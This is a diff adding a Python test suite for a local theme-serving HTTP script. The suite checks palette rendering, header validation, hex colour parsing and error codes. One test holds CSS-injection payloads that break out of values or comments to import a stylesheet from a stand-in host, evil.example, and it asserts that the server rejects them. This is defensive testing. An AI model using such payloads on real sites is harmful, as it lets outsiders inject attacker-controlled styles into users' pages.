@@ -0,0 +1,143 @@
+"""
+Requests against scripts/serve-themes.py, on an ephemeral port.
+
+Run with: python -m pytest tests (or python -m unittest discover tests)
+"""
+
+import copy
+import http.client
+import importlib.util
+import json
+import os
+import shutil
+import sys
+import tempfile
+import threading
+import unittest
+from http.server import ThreadingHTTPServer
+from unittest import mock
+
+SCRIPTS = os.path.join(os.path.dirname(__file__), '..', 'scripts')
+sys.path.insert(0, SCRIPTS)
+
+from palette_api import ThemeRenderer, gen  # noqa: E402
+
+
+def load_server():
+    spec = importlib.util.spec_from_file_location('serve_themes', os.path.join(SCRIPTS, 'serve-themes.py'))
+    module = importlib.util.module_from_spec(spec)
+    spec.loader.exec_module(module)
+    return module
+
+
+serve_themes = load_server()
+
+BASE_CSS = 'body{color:var(--text-normal)}\n'
+
+
+class ServeThemesTest(unittest.TestCase):
+
+    @classmethod
+    def setUpClass(cls):
+        cls.tmp = tempfile.mkdtemp(prefix='serve-themes-')
+        base = os.path.join(cls.tmp, 'theme.css')
+        with open(base, 'w', encoding='utf-8') as f:
+            f.write(BASE_CSS)
+        cls.palette = gen.load_palettes()['slate-ocean']
+
+        handler = type('Handler', (serve_themes.ThemeHandler,), {
+            'renderer': ThemeRenderer(base),
+            'log_message': lambda self, format, *args: None,
+        })
+        cls.server = ThreadingHTTPServer(('127.0.0.1', 0), handler)
+        cls.thread = threading.Thread(target=cls.server.serve_forever, daemon=True)
+        cls.thread.start()
+
+    @classmethod
+    def tearDownClass(cls):
+        cls.server.shutdown()
+        cls.server.server_close()
+        shutil.rmtree(cls.tmp)
+
+    def request(self, method: str, path: str, body=None) -> tuple:
+        connection = http.client.HTTPConnection(*self.server.server_address, timeout=10)
+        try:
+            data = json.dumps(body).encode('utf-8') if body is not None else None
+            connection.request(method, path, data, {'Content-Type': 'application/json'} if data else {})
+            response = connection.getresponse()
+            return response.status, response.getheader('Content-Type', ''), response.read().decode('utf-8')
+        finally:
+            connection.close()
+
+    def hostile(self, **changes) -> dict:
+        palette = copy.deepcopy(self.palette)
+        for mode, values in changes.items():
+            if mode == 'name':
+                palette['name'] = values
+            else:
+                palette[mode].update(values)
+        return palette
+
+    def test_posted_palette_renders(self):
+        status, content_type, css = self.request('POST', '/theme.css', self.palette)
+        self.assertEqual(status, 200)
+        self.assertTrue(content_type.startswith('text/css'))
+        self.assertTrue(css.startswith(BASE_CSS.rstrip('\n')))
+        self.assertIn(self.palette['light']['color-l-gray-10'], css)
+
+    def test_hostile_values_are_rejected(self):
+        payloads = [
+            {'light': {'color-l-gray-10': 'hsla(0, 0%, 0%, 1)} @import url(//evil.example/x.css); body{x:y'}},
+            {'dark': {'color-red-rgb-dark': '1, 2, 3; } @import url(//evil.example/x.css); .x{'}},
+            {'light': {'accent-h-light': '1;@import url(x)'}},
+            {'name': 'Mine */ @import url(//evil.example/x.css); /*'},
+            {'name': 'Mine\n@import url(//evil.example/x.css);'},
+        ]
+        for changes in payloads:
+            for path in ('/theme.css', '/snippet.css'):
+                with self.subTest(changes=changes, path=path):
+                    status, content_type, _ = self.request('POST', path, self.hostile(**changes))
+                    self.assertEqual(status, 422)
+                    self.assertFalse(content_type.startswith('text/css'))
+
+    def test_non_table_palette_is_rejected(self):
+        for body in ([], 'palette', 42):
+            with self.subTest(body=body):
+                status, _, _ = self.request('POST', '/theme.css', body)
+                self.assertEqual(status, 422)
+
+    def test_hex_colors_match_what_the_parser_reads(self):
+        for value, status in [('#f008', 200), ('#ff000080', 200), ('#ff000', 422), ('#ff00000', 422)]:
+            with self.subTest(value=value):
+                palette = self.hostile(light={'color-red-light': value})
+                self.assertEqual(self.request('POST', '/snippet.css', palette)[0], status)
+
+    def test_bad_content_length_is_rejected(self):
+        for length, status in [(None, 411), ('abc', 400), ('-1', 400), ('1_0', 400)]:
+            with self.subTest(length=length):
+                connection = http.client.HTTPConnection(*self.server.server_address, timeout=10)
+                try:
+                    connection.putrequest('POST', '/theme.css')
+                    if length is not None:
+                        connection.putheader('Content-Length', length)
+                    connection.endheaders()
+                    self.assertEqual(connection.getresponse().status, status)
+                finally:
+                    connection.close()
+
+    def test_broken_library_palette_is_a_server_error(self):
+        library = os.path.join(self.tmp, 'palettes')
+        os.makedirs(library)
+        with open(os.path.join(library, 'broken.json'), 'w', encoding='utf-8') as f:
+            json.dump({'name': 'Broken', 'light': {'color-l-gray-10': 'red;}'}, 'dark': {}}, f)
+        with mock.patch.multiple(gen, PALETTE_DATA_DIR=library, PALETTE_CACHE_DIR=os.path.join(library, '.cache')):
+            for path in ('/palettes', '/palettes/broken/theme.css'):
+                with self.subTest(path=path):
+                    status, _, _ = self.request('GET', path)
+                    self.assertEqual(status, 500)
+            status, _, _ = self.request('GET', '/palettes/missing/theme.css')
+            self.assertEqual(status, 404)
+
+
+if __name__ == '__main__':
+    unittest.main()